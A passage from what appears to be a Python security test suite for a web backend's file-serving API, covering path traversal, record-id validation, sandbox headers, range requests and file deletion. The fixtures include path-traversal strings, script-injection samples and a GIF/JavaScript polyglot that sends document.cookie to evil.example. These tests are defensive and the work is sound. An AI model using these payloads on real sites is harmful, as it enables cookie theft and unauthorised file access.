        assert res.status_code == 200 and took < 2, (name, res.status_code, took)
        if res.content != data:  # a thumb was made: a small one
            assert Image.open(io.BytesIO(res.content)).size == (100, 100), name
    # A GIF of 5,000 frames: only the first is decoded.
    gif = _gif_frames(5000)
    rec = await _ok(client, "PATCH", f"/api/collections/docs/records/{s.b['id']}", files=[("pub", ("a.gif", gif, "x"))])
    started = time.perf_counter()
    res = await client.get(s.url(rec, rec["pub"][0]), params={"thumb": "20x20"})
    assert res.status_code == 200 and time.perf_counter() - started < 2
    thumb = Image.open(io.BytesIO(res.content))
    assert thumb.size == (20, 20) and getattr(thumb, "n_frames", 1) == 1


# --------------------------------------------------------------------------- paths
async def test_path_tricks_find_nothing(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    rid, name = s.a["id"], s.a["pub"][0]
    priv = s.a["priv"][0]
    tricks = [
        f"docs/{rid}/..%2F{s.b['id']}%2F{name}", f"docs/{rid}/%2e%2e/{name}", f"docs/{rid}/{name}%00",
        f"docs/{rid}/{name}%00.png", f"docs/{rid}/{name}%2F", f"docs/{rid}/.%2F{name}",
        f"docs/{rid}%2F..%2F{rid}/{name}", f"docs/..%2F{rid}/{name}", f"docs/{rid}/..%5C{name}",
        f"docs/{rid}/{name.upper()}", f"docs/{rid}/%F0%9F%98%80", f"docs/{rid}/{name}%C0%AF",
        f"docs/{rid}/{name[:-4]}%EF%BC%8Epng", f"docs/%EF%BC%8E%EF%BC%8E/{name}", f"docs/{rid}%ED%A0%80/{name}",
        f"docs/{rid}%FF/{name}", f"docs/%F0%9F%98%80/{name}", f"docs/{rid}/{'a' * 300}", f"docs/{'a' * 300}/{name}",
        f"docs%00/{rid}/{name}", f"%F0%9F%98%80/{rid}/{name}", f"docs%2F..%2Fusers/{rid}/{name}",
        f"..%2Fdocs/{rid}/{name}", f"{s.docs_id}%20/{rid}/{name}", f"docs/{rid}/thumbs_{name}%2F100x100_{name}",
        f"docs/{rid}/{priv}%00", f"docs/{rid}/%20{priv}", f"docs/{rid}/{priv.upper()}",
    ]
    for trick in tricks:
        res = await client.get(f"/api/files/{trick}")
        assert res.status_code == 404, (trick, res.status_code, res.text[:200])
    # The thumb parameter is no path: odd values serve the original.
    for spec in ("100x100%00", "100x100/../x", "..%2F100x100", "%F0%9F%98%80", "9" * 400 + "x1"):
        res = await client.get(f"/api/files/docs/{rid}/{name}?thumb={spec}")
        assert res.status_code == 200 and res.content == media.png(), spec
    # Case-insensitive collations (MariaDB) find the record, never another record's file.
    res = await client.get(f"/api/files/docs/{rid.upper()}/{priv}", params={"token": await s.file_token(s.bh)})
    assert res.status_code == 404


async def test_a_nul_in_the_record_id_is_a_plain_404(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    for path in (f"docs/{s.a['id']}%00/{s.a['pub'][0]}", "_superusers/x%00/y", f"docs/%00/{s.a['pub'][0]}"):
        res = await client.get(f"/api/files/{path}")
        assert res.status_code == 404, (path, res.status_code, res.text[:200])


async def test_record_ids_with_path_characters_are_refused(client: TestClient, app: App) -> None:
    await _ok(client, "POST", "/api/collections", json={
        "name": "loose", "listRule": "", "viewRule": "", "createRule": "", "updateRule": "", "deleteRule": "",
        "fields": [{"name": "id", "type": "text", "primaryKey": True, "pattern": r"^[a-z0-9_./\\]+$", "min": 1,
                    "max": 100, "autogeneratePattern": "[a-z0-9]{15}"},
                   {"name": "f", "type": "file", "maxSelect": 2}]})
    first = await _ok(client, "POST", "/api/collections/loose/records", files=[("f", ("a.txt", b"a", "text/plain"))])
    answers = {}
    for rid in (f"{first['id']}/inner", "a\\b", "x.y", "..", ".", "a/../b"):
        res = await client.post("/api/collections/loose/records", data={"id": rid},
                                files=[("f", ("b.txt", b"b", "text/plain"))])
        answers[rid] = res.status_code
    keys = await stored_keys(app)
    assert set(answers.values()) == {400} and len(keys) == 1, (answers, keys)


async def test_a_trailing_newline_in_a_record_id_is_refused(client: TestClient, app: App) -> None:
    await _ok(client, "POST", "/api/collections", json={
        "name": "notes", "listRule": "", "viewRule": "", "createRule": "", "fields": [{"name": "f", "type": "file"}]})
    res = await client.post("/api/collections/notes/records", data={"id": "abcdefghijklmn\n"},
                            files=[("f", ("a.txt", b"a", "text/plain"))])
    keys = await stored_keys(app)
    assert res.status_code == 400 and not keys, (res.status_code, keys)


# --------------------------------------------------------------------------- responses
async def test_every_file_answer_is_sandboxed_and_never_renders_markup(client: TestClient, app: App,
                                                                      backend: Any) -> None:
    _sqlite_only(backend)
    s = await _scene(client, app)
    markup = {
        "page.html": media.HTML, "logo.svg": media.SVG, "feed.xml": b'<?xml version="1.0"?><rss><x/></rss>',
        "x.xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
        "cat.png": b"\n\n  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "a.txt": b"\xef\xbb\xbf<!doctype html><script>alert(1)</script>",
        "b.pdf": b"<html><script>alert(1)</script>", "c.js": b"alert(document.cookie)",
    }
    await _ok(client, "POST", "/api/collections", json={
        "name": "pages", "viewRule": "", "fields": [{"name": "pub", "type": "file", "maxSelect": 10}]})
    rec = await _ok(client, "POST", "/api/collections/pages/records",
                    files=[("pub", (n, d, "image/png")) for n, d in markup.items()])
    for name in rec["pub"]:
        res = await client.get(s.url(rec, name, "pages"))
        assert res.headers["content-disposition"].startswith("attachment"), (name, res.headers)
        assert not res.headers["content-type"].startswith(("image/png", "application/pdf")), name
    png_url = s.url(s.a, s.a["pub"][0])
    full = await client.get(png_url)
    etag, modified = full.headers["etag"], full.headers["last-modified"]
    answers = {
        "200": full,
        "206": await client.get(png_url, headers={"Range": "bytes=0-9"}),
        "304 etag": await client.get(png_url, headers={"If-None-Match": etag}),
        "304 date": await client.get(png_url, headers={"If-Modified-Since": modified}),
        "416": await client.get(png_url, headers={"Range": "bytes=999999-"}),
        "thumb": await client.get(f"{png_url}?thumb=100x100"),
        "thumb 304": await client.get(f"{png_url}?thumb=100x100", headers={"If-None-Match": "*"}),
        "download": await client.get(f"{png_url}?download=1"),
        "protected": await client.get(s.url(s.a, s.a["priv"][0]), headers=s.ah),
        "protected 206": await client.get(s.url(s.a, s.a["priv"][0]), headers={**s.ah, "Range": "bytes=-3"}),
    }
    expected = {"200": 200, "206": 206, "304 etag": 304, "304 date": 304, "416": 416, "thumb": 200, "thumb 304": 304,
                "download": 200, "protected": 200, "protected 206": 206}
    for what, res in answers.items():
        assert res.status_code == expected[what], (what, res.status_code)
        csp = res.headers.get("content-security-policy", "")
        assert "sandbox" in csp and "default-src 'none'" in csp, (what, res.headers)
        assert res.headers.get("x-content-type-options") == "nosniff", what
    assert answers["206"].content == full.content[:10]
    assert answers["protected 206"].content == SECRET[-3:]
    assert answers["download"].headers["content-disposition"].startswith("attachment")
    # A range never reaches past the file, and odd ranges serve the whole file or a 416.
    for spec in ("bytes=0-99999999999999999999", "bytes=5-2", "bytes=-0", "bytes=0-0,5-6", "bytes=a-b", "items=0-1"):
        res = await client.get(png_url, headers={"Range": spec})
        assert res.status_code in (200, 206, 416), spec
        if res.status_code != 416:
            assert full.content.startswith(res.content) or res.content == full.content, spec


async def test_the_content_type_is_the_one_sniffed_from_the_bytes(client: TestClient, app: App, backend: Any) -> None:
    _sqlite_only(backend)
    await _ok(client, "POST", "/api/collections", json={
        "name": "pics", "listRule": "", "viewRule": "", "createRule": "", "updateRule": "",
        "fields": [{"name": "img", "type": "file", "maxSelect": 3, "mimeTypes": ["image/gif", "image/png"]}]})
    polyglot = b"GIF89a=1;fetch('//evil.example/?'+document.cookie);"  # a GIF to the sniffer, a script to a browser
    rec = await _ok(client, "POST", "/api/collections/pics/records", files=[
        ("img", ("avatar.js", polyglot, "image/gif")), ("img", ("logo.svg", media.png(), "image/png"))])
    js = await client.get(f"/api/files/pics/{rec['id']}/{rec['img'][0]}")
    svg = await client.get(f"/api/files/pics/{rec['id']}/{rec['img'][1]}")
    shown = (js.headers["content-type"], svg.headers["content-type"], svg.headers["content-disposition"][:6])
    assert shown == ("image/gif", "image/png", "inline"), shown


# --------------------------------------------------------------------------- deletion and the sweep
async def test_deletes_and_the_sweep_touch_only_what_they_own(client: TestClient, app: App) -> None:
    s = await _scene(client, app)
    thumb = await client.get(f"{s.url(s.a, s.a['pub'][0])}?thumb=100x100")
    assert thumb.status_code == 200
    other = await _ok(client, "POST", "/api/collections", json={**VAULT, "name": "docs2", "id": s.docs_id + "0",
                                                                "viewRule": ""})
    o = await _ok(client, "POST", "/api/collections/docs2/records",
                  files=[("pub", ("o.txt", b"o", "text/plain"))])
    held = await s.keys()
    storage = app.file_service.storage()
    orphans = {f"{s.docs_id}/{s.a['id']}/gone_0123456789.txt", f"{s.docs_id}/nosuchrecord0/x.txt",
               f"{s.docs_id}/{s.a['id']}/thumbs_gone.png/100x100_gone.png", f"nosuchcollection/{s.a['id']}/x.txt"}
    for key in orphans:
        await storage.put(key, io.BytesIO(b"orphan"), "text/plain")
    # The sweep within its grace period removes nothing; past it, only the orphans.
    assert await app.file_service.sweep(grace=3600) == []
    removed = await app.file_service.sweep(grace=0, now=time.time() + 5)
    assert set(removed) == orphans and await s.keys() == held
    # Bob deletes his record: Alice's files, and the other collection's, stay.
    res = await client.delete(f"/api/collections/docs/records/{s.b['id']}", headers=s.bh)
    assert res.status_code == 204
    assert await s.keys() == {k for k in held if f"/{s.b['id']}/" not in k}
    # Alice cannot delete Bob's... already gone; Bob cannot delete Alice's record or its files.
    res = await client.delete(f"/api/collections/docs/records/{s.a['id']}", headers=s.bh)
    assert res.status_code == 404
    # Deleting the collection whose id is a prefix of the other's leaves the other's files.
    await _ok(client, "DELETE", f"/api/collections/{s.docs_id}")
    assert await s.keys() == {k for k in held if k.startswith(f"{other['id']}/")}
    assert (await client.get(f"/api/files/docs2/{o['id']}/{o['pub']}")).content == b"o"


async def test_truncating_a_collection_deletes_its_files(client: TestClient, app: App) -> None:
    await _ok(client, "POST", "/api/collections", json={**VAULT, "name": "docs2"})
    await _ok(client, "POST", "/api/collections/docs2/records", files=[("pub", ("o.txt", b"o", "text/plain"))])
    assert len(await stored_keys(app)) == 1
    await _ok(client, "DELETE", "/api/collections/docs2/truncate")
    assert await stored_keys(app) == set()
